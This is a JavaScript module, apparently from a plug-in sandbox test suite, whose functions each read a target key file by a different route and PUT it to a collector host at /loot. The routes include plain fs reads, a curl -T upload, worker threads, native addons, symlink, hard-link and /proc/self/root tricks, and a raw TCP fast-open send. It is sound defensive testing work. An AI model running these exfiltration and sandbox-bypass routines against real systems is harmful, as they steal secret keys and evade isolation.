// The theft of the paper's case study and its variants. Each takes the target and the plug-in's
// folder, sends the key to the collector, and returns what it read; it throws where it is refused.
import * as child from "node:child_process";
import * as fs from "node:fs";
import * as http from "node:http";
import { createRequire } from "node:module";
import { join } from "node:path";
import { Worker } from "node:worker_threads";

const put = (target, loot) =>
  new Promise((resolve, reject) => {
    const request = http.request(
      { host: target.host, port: target.port, method: "PUT", path: "/loot" },
      (response) => response.resume().on("end", () => resolve(loot)),
    );
    request.on("error", reject);
    request.end(loot);
  });

const native = (folder) => createRequire(import.meta.url)(join(folder, "thief.node"));

const output = (program, args) =>
  child.execFileSync(program, args, { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] });

export const thefts = {
  fs: (target) => put(target, fs.readFileSync(target.key, "utf8")),

  "fs.promises": async (target) => put(target, await fs.promises.readFile(target.key, "utf8")),

  streams: (target) =>
    new Promise((resolve, reject) => {
      let loot = "";
      fs.createReadStream(target.key, "utf8")
        .on("data", (part) => (loot += part))
        .on("error", reject)
        .on("end", () => put(target, loot).then(resolve, reject));
    }),

  "worker thread": (target) =>
    new Promise((resolve, reject) => {
      const code = `const { parentPort, workerData } = require("node:worker_threads");
        parentPort.postMessage(require("node:fs").readFileSync(workerData, "utf8"));`;
      const worker = new Worker(code, { eval: true, workerData: target.key });
      worker.on("message", (loot) => put(target, loot).then(resolve, reject));
      worker.on("error", reject);
    }),

  "child: cat": (target) => put(target, output("cat", [target.key])),

  "child: curl": (target) => {
    output("curl", ["-sS", "-T", target.key, `http://${target.host}:${target.port}/loot`]);
    return "unknown";
  },

  "process.binding": (target) => {
    const binding = process.binding("fs");
    return put(target, binding.readFileUtf8(target.key, fs.constants.O_RDONLY));
  },

  "native addon": (target, folder) => put(target, native(folder).read(target.key)),

  "symlink in the workspace": (target, folder) => {
    const link = join(folder, "innocent.txt");
    fs.rmSync(link, { force: true });
    fs.symlinkSync(target.key, link);
    return put(target, fs.readFileSync(link, "utf8"));
  },

  "/proc/self/root": (target) => put(target, fs.readFileSync(`/proc/self/root${target.key}`, "utf8")),

  "hard link": (target, folder) => {
    const link = join(folder, "also-innocent.txt");
    fs.rmSync(link, { force: true });
    fs.linkSync(target.key, link);
    return put(target, fs.readFileSync(link, "utf8"));
  },

  io_uring: (target, folder) => put(target, native(folder).uring(target.key)),

  // Something else than the key: what the plug-in may read must not leave either.
  "send by HTTP": (target, folder) =>
    put(target, `${target.marker} ${fs.readFileSync(join(folder, "plugin.mjs"), "utf8").length}`),

  "send by MSG_FASTOPEN": (target, folder) => {
    const text = `${target.marker} by fast open`;
    const head = `PUT /loot HTTP/1.1\r\nHost: x\r\nContent-Length: ${text.length}\r\nConnection: close\r\n\r\n`;
    native(folder).fastopen(target.host, target.port, head + text);
    return text;
  },
};
